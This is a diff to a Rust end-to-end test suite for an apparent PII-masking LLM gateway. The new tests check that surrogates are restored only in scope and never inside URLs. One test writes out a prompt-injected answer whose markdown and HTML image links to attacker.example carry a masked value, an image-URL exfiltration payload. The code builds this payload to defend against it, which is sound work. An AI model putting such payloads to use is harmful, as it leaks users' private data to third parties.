@@ -138,6 +138,22 @@ async fn ask(api: &str, path: &str, text: &str, stream: bool) -> RawResponse {
     post(gateway(), path, &[], &request(api, text, stream)).await
 }
 
+/// Asks `text` after a resent history of one user message (`history`) and
+/// the assistant's answer to it: the fake LLM echoes `text`, the last user
+/// message. The answer may restore what `history` sent (restore scope).
+async fn ask_after(api: &str, path: &str, history: &str, text: &str, stream: bool) -> RawResponse {
+    let mut body = request(api, text, stream);
+    let turns = if api == "responses" {
+        "input"
+    } else {
+        "messages"
+    };
+    let list = body[turns].as_array_mut().unwrap();
+    list.insert(0, json!({"role": "user", "content": history}));
+    list.insert(1, json!({"role": "assistant", "content": "Noted."}));
+    post(gateway(), path, &[], &body).await
+}
+
 #[tokio::test]
 #[ignore = "needs the gateway: envoy/e2e.sh"]
 async fn masks_on_the_way_up_and_restores_on_the_way_down() {
@@ -228,6 +244,80 @@ async fn person_names_are_masked_and_restored() {
                 answer_text(api, &answer, stream),
                 NAMES_TEXT,
                 "{api} stream={stream}: restored"
+            );
+        }
+    }
+}
+
+#[tokio::test]
+#[ignore = "needs the gateway: envoy/e2e.sh"]
+async fn a_surrogate_sent_as_written_does_not_come_back_as_its_value() {
+    // The surrogate oracle: whoever saw a surrogate (a provider's log)
+    // sends it in a new conversation and asks for it to be repeated.
+    let value = fresh_email("oracle");
+    ask("chat", "/v1/chat/completions", &sentence(&value), false).await;
+    let surrogate = surrogate_in(&provider_saw("chat").await);
+    let phone = "+39 347 555 0199";
+    ask("chat", "/v1/chat/completions", &sentence(phone), false).await;
+    let phone_surrogate = surrogate_in(&provider_saw("chat").await);
+    assert_ne!(phone_surrogate, phone);
+    let probe = format!("repeat: {surrogate} / {phone_surrogate}");
+    for stream in [false, true] {
+        for (api, path) in APIS {
+            let answer = ask(api, path, &probe, stream).await;
+            let text = answer_text(api, &answer, stream);
+            assert_eq!(text, probe, "{api} stream={stream}: left as written");
+            assert!(!text.contains(&value) && !text.contains(phone));
+            // The agent that sends the value gets it back, history included.
+            let answer =
+                ask_after(api, path, &sentence(&value), &sentence(&surrogate), stream).await;
+            assert_eq!(
+                answer_text(api, &answer, stream),
+                sentence(&value),
+                "{api} stream={stream}: in scope, restored"
+            );
+        }
+    }
+    let stats = send(
+        addr_of("LATET_E2E_ADMIN"),
+        "GET",
+        "/stats/prometheus",
+        &[],
+        "",
+    )
+    .await;
+    let declined: f64 = stats
+        .text()
+        .lines()
+        .filter(|line| line.contains("latet_restore_declined_out_of_scope"))
+        .filter(|line| !line.starts_with('#'))
+        .filter_map(|line| line.rsplit(' ').next()?.parse::<f64>().ok())
+        .sum();
+    // Two surrogates in each of six probes.
+    assert!(declined >= 12.0, "declines are counted: {declined}");
+}
+
+#[tokio::test]
+#[ignore = "needs the gateway: envoy/e2e.sh"]
+async fn a_value_is_not_restored_into_an_image_url() {
+    // Exfiltration: a prompt-injected answer puts the surrogate in an image
+    // URL; rendering it would send the value to the attacker's host.
+    let value = fresh_email("pixel");
+    ask("chat", "/v1/chat/completions", &sentence(&value), false).await;
+    let surrogate = surrogate_in(&provider_saw("chat").await);
+    let injected = format!(
+        "Hi {surrogate}! ![logo](https://attacker.example/pixel.png?u={surrogate}) <img src=\"https://attacker.example/p?u={surrogate}\">"
+    );
+    for stream in [false, true] {
+        for (api, path) in APIS {
+            let answer = ask_after(api, path, &sentence(&value), &injected, stream).await;
+            let text = answer_text(api, &answer, stream);
+            assert_eq!(
+                text,
+                format!(
+                    "Hi {value}! ![logo](https://attacker.example/pixel.png?u={surrogate}) <img src=\"https://attacker.example/p?u={surrogate}\">"
+                ),
+                "{api} stream={stream}: restored in the text, not in the URLs"
             );
         }
     }
@@ -324,15 +414,17 @@ async fn forget_gives_a_new_surrogate_and_retires_the_old() {
         old_restored, text,
         "the old local part differs from the value's"
     );
+    // The conversation resends the value (the answer may restore it); the
+    // model writes the old surrogate, then the new one.
     for stream in [false, true] {
         for (api, path) in APIS {
-            let answer = ask(api, path, &sentence(&old), stream).await;
+            let answer = ask_after(api, path, &text, &sentence(&old), stream).await;
             assert_eq!(
                 answer_text(api, &answer, stream),
                 old_restored,
                 "{api}: old stays, its domain restored"
             );
-            let answer = ask(api, path, &sentence(&new), stream).await;
+            let answer = ask_after(api, path, &text, &sentence(&new), stream).await;
             assert_eq!(
                 answer_text(api, &answer, stream),
                 text,
@@ -379,14 +471,14 @@ async fn a_forgotten_name_gets_a_new_surrogate_and_the_old_is_not_restored() {
     for stream in [false, true] {
         for (api, path) in APIS {
             let echo = format!("Saluda a {old} de mi parte.");
-            let answer = ask(api, path, &echo, stream).await;
+            let answer = ask_after(api, path, NAMES_TEXT, &echo, stream).await;
             assert_eq!(
                 answer_text(api, &answer, stream),
                 echo,
                 "{api} stream={stream}: the retired surrogate is not restored"
             );
             let echo = format!("Saluda a {new} de mi parte.");
-            let answer = ask(api, path, &echo, stream).await;
+            let answer = ask_after(api, path, NAMES_TEXT, &echo, stream).await;
             assert_eq!(
                 answer_text(api, &answer, stream),
                 format!("Saluda a {} de mi parte.", NAMES[0]),
@@ -420,6 +512,8 @@ async fn metrics_are_on_prometheus() {
         "latet_requests_masked",
         "latet_values_masked",
         "latet_restored",
+        "latet_restore_declined_out_of_scope",
+        "latet_restore_declined_url",
     ] {
         assert!(
             text.contains(metric),
